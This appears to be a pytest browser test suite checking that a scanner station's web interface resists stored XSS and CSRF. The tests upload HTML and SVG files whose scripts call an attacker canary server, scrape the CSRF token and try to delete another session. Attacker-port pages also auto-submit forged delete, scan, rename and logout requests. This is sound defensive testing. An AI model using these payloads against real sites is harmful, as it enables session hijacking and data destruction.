"""Issue 9's attacks replayed in a real browser (Debian's chromium) against a live station
(`scanner web` + `scanner worker`):

- Stored XSS: an uploaded .html, an .svg and an SVG named .webp inside a ZIP are opened
  from their tiles, by address and through the thumbnail route's `?src=`: each is a download (or a
  404), no script in them runs (a canary server on another port hears nothing), and the
  session their script tried to delete is still there.
- CSRF: pages served from another port of the same host (same site, so the login cookie
  goes along) post forms and no-cors fetches at the station: delete, start a scan, upload,
  sign out. Nothing changes.
- The station's own pages still work under the CSP and the token (htmx forms, the upload
  form, the job dashboard) with no CSP violation of their own.
"""

from __future__ import annotations

import io
import json
import threading
import urllib.parse
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from PIL import Image

from scanner_app.platform.queues import HARDWARE_QUEUE
from tests.runtime.procs import http
from tests.uploads.helpers import multipart_body
from tests.web.live_station import free_port, live_station, open_page

pytestmark = pytest.mark.browser

REDIS_DB = 13  # this station's jobs are for this station's worker alone
PASSWORD = "correct horse battery"
BOUNDARY = "attackBoundary"


class Attacker:
    """A web server on another port: serves the attacker's pages and counts every request
    (a script that ran inside the station's origin calls home here)."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                attacker.hits.append(self.path)
                body = attacker.pages.get(self.path, "").encode()
                self.send_response(200 if body else 204)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def station(tmp_path_factory, redis_server):
    yield from live_station(tmp_path_factory, redis_server, REDIS_DB, "attacks")


@pytest.fixture(scope="module")
def key(station) -> str:
    station.run_cli("user", "create", "admin", "--admin", "--password-stdin",
                    input=PASSWORD + "\n")
    return station.create_api_key("attack-tests")


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.stop()


def _api(station, key: str, method: str, path: str, body: object = None):
    status, _headers, data = http(method, station.url + path, key=key, body=body)
    return status, (json.loads(data) if data.strip() else None)


def _session(station, key: str, name: str) -> int:
    status, made = _api(station, key, "POST", "/api/v1/sessions",
                        {"name": name, "make_current": False})
    assert status == 201, made
    return (made.get("session") or made)["id"]


def _exists(station, key: str, session_id: int) -> bool:
    return _api(station, key, "GET", f"/api/v1/sessions/{session_id}")[0] == 200


def _upload(station, key: str, session_id: int, files: list[tuple[str, bytes]]) -> list[int]:
    import urllib.request

    request = urllib.request.Request(
        station.url + "/api/v1/uploads", method="POST",
        data=multipart_body(files, BOUNDARY, {"session_id": str(session_id)}),
        headers={"X-Api-Key": key,
                 "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
    with urllib.request.urlopen(request, timeout=30) as answer:
        return [upload["id"] for upload in json.loads(answer.read())["uploads"]]


def _sign_in(page, station) -> None:
    page.goto(station.url + "/login")
    page.fill("input[name=name]", "admin")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(station.url + "/")


def _pump_until(page, check, what: str, seconds: float = 15) -> None:
    """Let Playwright deliver its events (downloads, pages) until `check()` holds."""
    for _ in range(int(seconds * 20)):
        if check():
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"timed out waiting for {what}")


def _csp_watch(page) -> list[str]:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text)
            if "Content Security Policy" in message.text else None)
    return refused


def test_uploaded_html_and_svg_run_no_script(chromium, station, key, attacker):
    target, victim = _session(station, key, "Target"), _session(station, key, "Victim")
    call_home = f"fetch('{attacker.url}/ran-%s', {{mode: 'no-cors'}});"
    # What the attack did: read the page's token, then delete another session.
    token = "(t.match(/csrf-token\" content=\"([^\"]+)/) || [0, ''])[1]"
    delete = (f"fetch('/').then(r => r.text()).then(t => fetch('/sessions/{victim}/delete', "
              f"{{method: 'POST', headers: {{'X-CSRFToken': {token}}}}}));"
              f"fetch('/api/v1/sessions/{victim}', {{method: 'DELETE'}});")
    html = f"<!doctype html><p>photo</p><script>{call_home % 'html'}{delete}</script>"
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{call_home % "svg-onload"}">'
           f"<script>{call_home % 'svg'}{delete}</script></svg>")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        # Archives keep only members named like images: an "image" that is really an SVG.
        zipped.writestr("inner.webp", svg.replace("ran-svg", "ran-zip"))
    uploads = _upload(station, key, target, [("photo.html", html.encode()),
                                             ("vector.svg", svg.encode()),
                                             ("bundle.zip", archive.getvalue())])

    def all_processed() -> bool:
        answers = [_api(station, key, "GET", f"/api/v1/uploads/{u}")[1] for u in uploads]
        # The contract lets a single object come bare or wrapped.
        return all((a.get("upload") or a)["status"] != "processing" for a in answers)

    context, page, _requests, failures = open_page(chromium)
    try:
        _pump_until(page, all_processed, "the uploads to be processed", 60)
        _status, listed = _api(station, key, "GET",
                               f"/api/v1/sessions/{target}/captures?valid=false")
        invalid = {c["path"]: c["id"] for c in listed["captures"]}
        # Every stored file, where the contract keeps it; the station may or may not list the
        # page and the SVG as (invalid) captures, but the image-named one is always one.
        stored = {f"images/uploads/{upload}/{name}" for upload, name in
                  zip(uploads[:2], ("photo.html", "vector.svg"), strict=True)} | set(invalid)
        session_dir = station.data_dir / "sessions" / str(target)
        assert all((session_dir / path).is_file() for path in stored), stored
        assert any(path.endswith("/inner.webp") for path in invalid), invalid

        _sign_in(page, station)
        downloads: list[str] = []
        context.on("page", lambda popup: popup.on(
            "download", lambda download: downloads.append(download.suggested_filename)))
        page.on("download", lambda download: downloads.append(download.suggested_filename))
        page.goto(f"{station.url}/sessions/{target}")
        tiles = page.locator(".thumb.is-invalid a")
        _pump_until(page, lambda: tiles.count() == len(invalid), "the invalid tiles")
        for index in range(tiles.count()):
            tiles.nth(index).click()  # opens in a new tab, as a person would
        _pump_until(page, lambda: len(downloads) >= len(invalid), "each tile to be a download")
        assert sorted(downloads) == sorted(path.rsplit("/", 1)[-1] for path in invalid)

        any_capture = next(iter(invalid.values()))
        for path in sorted(stored):
            quoted = urllib.parse.quote(path)
            # By address: still a download, never a page of the station's origin.
            before = len(downloads)
            try:
                page.goto(f"{station.url}/sessions/{target}/files/{quoted}")
            except Exception:  # noqa: BLE001 - Playwright reports "Download is starting"
                pass
            _pump_until(page, lambda b=before: len(downloads) > b, f"{path} to download")
            # The thumbnail route's fallback serves valid images only, whatever src names.
            for capture_id in {invalid.get(path, any_capture), any_capture}:
                answer = page.goto(f"{station.url}/sessions/{target}/thumbnails/"
                                   f"{capture_id}.jpg?src={quoted}")
                assert answer.status == 404, path
        page.goto(f"{station.url}/sessions/{target}")  # give any stray script a page to run on
        page.wait_for_load_state("networkidle")
        assert attacker.hits == [], attacker.hits
        assert _exists(station, key, victim) and failures == []
    finally:
        context.close()


def test_pages_from_another_port_change_nothing(chromium, station, key, attacker):
    victim = _session(station, key, "Keep me")
    before = _api(station, key, "GET", "/api/v1/sessions")[1]["totals"]
    form = ('<form id="f" method="post" action="{action}" enctype="{enctype}">{fields}</form>'
            '<script>document.getElementById("f").submit()</script>')
    attacker.pages["/delete.html"] = form.format(
        action=f"{station.url}/sessions/{victim}/delete", enctype="application/x-www-form-"
        "urlencoded", fields="")
    attacker.pages["/scan.html"] = form.format(
        action=f"{station.url}/scans", enctype="application/x-www-form-urlencoded",
        fields='<input name="profile" value="quick"><input name="frames" value="4">')
    attacker.pages["/rename.html"] = form.format(
        action=f"{station.url}/sessions/{victim}/rename", enctype="multipart/form-data",
        fields='<input name="name" value="Owned">')
    attacker.pages["/logout.html"] = form.format(
        action=f"{station.url}/logout", enctype="application/x-www-form-urlencoded", fields="")
    attacker.pages["/fetch.html"] = (
        f"<script>const s = '{station.url}', opts = {{method: 'POST', mode: 'no-cors', "
        "credentials: 'include'}; const fd = new FormData();"
        "fd.append('files', new Blob(['x']), 'a.jpg');"
        "Promise.allSettled([fetch(s + '/upload', {...opts, body: fd}),"
        f"fetch(s + '/sessions/{victim}/delete', opts), fetch(s + '/current', opts),"
        f"fetch(s + '/api/v1/sessions/{victim}', {{method: 'DELETE', credentials: 'include'}})])"
        ".then(() => { document.title = 'done'; });</script>")

    context, page, _requests, _failures = open_page(chromium)
    try:
        _sign_in(page, station)
        for name in ("/delete.html", "/scan.html", "/rename.html", "/logout.html"):
            page.goto(attacker.url + name)
            page.wait_for_url(station.url + "/**")
            assert "Reload the page and try again" in page.content(), name
        page.goto(attacker.url + "/fetch.html")
        page.wait_for_function("document.title === 'done'")
        page.goto(station.url + "/")
        assert page.url == station.url + "/"  # still signed in: the logout was refused
    finally:
        context.close()
    status, kept = _api(station, key, "GET", f"/api/v1/sessions/{victim}")
    assert status == 200 and (kept.get("session") or kept)["name"] == "Keep me"
    assert _api(station, key, "GET", "/api/v1/scans")[1]["scans"] == []
    assert _api(station, key, "GET", "/api/v1/sessions")[1]["totals"] == before


def test_the_stations_own_pages_work_under_the_policy(chromium, station, key, tmp_path):
    context, page, _requests, failures = open_page(chromium)
    refused = _csp_watch(page)
    page.on("dialog", lambda dialog: dialog.accept())
    try:
        _sign_in(page, station)
        page.goto(station.url + "/sessions")
        page.fill("input[name=name]", "Made in the browser")
        page.click("text=Create session")
        row = page.locator("#session-list a", has_text="Made in the browser")
        row.wait_for()
        row.click()
        page.wait_for_url(station.url + "/sessions/*")
        page.click("text=Delete session")  # htmx post with the token; hx-confirm accepted
        page.wait_for_url(station.url + "/sessions*")
        photo = tmp_path / "photo.jpg"
        Image.new("RGB", (64, 48), (20, 120, 200)).save(photo, "JPEG")
        page.goto(station.url + "/upload")
        page.set_input_files("input[type=file]", str(photo))
        page.click("button:has-text('Upload')")
        page.locator("#upload-results", has_text="photo.jpg").wait_for()
        assert refused == [] and failures == [], refused + failures

        # The job dashboard: its inline script and style="" by hash, underscore by eval.
        page.goto(station.url + "/rq/")
        page.locator("#queues tr[data-role=loading-placeholder]").wait_for(state="detached")
        assert refused == [] and failures == [], refused + failures
        posted = page.evaluate(
            "q => $.ajax({url: '/rq/requeue/' + q, method: 'POST'})"
            ".then(() => 200, x => x.status)", HARDWARE_QUEUE)
        assert posted == 200  # the dashboard's own buttons carry the token
    finally:
        context.close()
    _status, sessions = _api(station, key, "GET", "/api/v1/sessions?per_page=200")
    assert "Made in the browser" not in [s["name"] for s in sessions["sessions"]]  # deleted
